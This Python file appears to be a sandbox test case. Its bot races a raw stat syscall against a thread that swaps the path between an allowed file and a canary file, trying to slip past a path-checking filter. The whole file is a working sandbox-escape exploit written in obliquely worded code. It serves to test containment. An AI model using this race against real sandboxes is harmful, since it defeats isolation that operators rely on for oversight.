# expect: OK
# category: files
import ctypes
import os
import platform
import threading
import time

from bot_sdk import Action, CustomBot


class Attack(CustomBot):
    """Change the path while whoever tells of it is looking: from a file of the runtime, or from none."""

    def execute_algorithm(self, data, timeframe, subscription_config):
        number = {"x86_64": 262, "aarch64": 79}[platform.machine()]
        wanted = os.fsencode(self.config["canary_file"])
        for allowed, flags in ((os.fsencode(os.__file__), 0), (b"", 0x1000)):
            if tells_other(number, allowed, wanted, flags):
                return Action("BUY", 1.0, "ESCAPED: facts of the canary")
        return Action("HOLD", 1.0, "never")


def tells_other(number, allowed, wanted, flags):
    path = ctypes.create_string_buffer(max(len(allowed), len(wanted)) + 1)
    ctypes.memmove(path, allowed, len(allowed) + 1)
    is_over = threading.Event()

    def flip():
        while not is_over.is_set():
            ctypes.memmove(path, allowed, len(allowed) + 1)
            ctypes.memmove(path, wanted, len(wanted) + 1)

    libc, facts = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(256)
    libc.syscall(number, 0, path, facts, flags)
    expected = facts.raw[:16]  # device and number of the file
    thread = threading.Thread(target=flip)
    thread.start()
    try:
        until = time.monotonic() + 0.5
        while time.monotonic() < until:
            ctypes.memset(facts, 0, 256)
            if libc.syscall(number, 0, path, facts, flags) == 0 and facts.raw[:16] != expected:
                return True
    finally:
        is_over.set()
        thread.join()
    return False
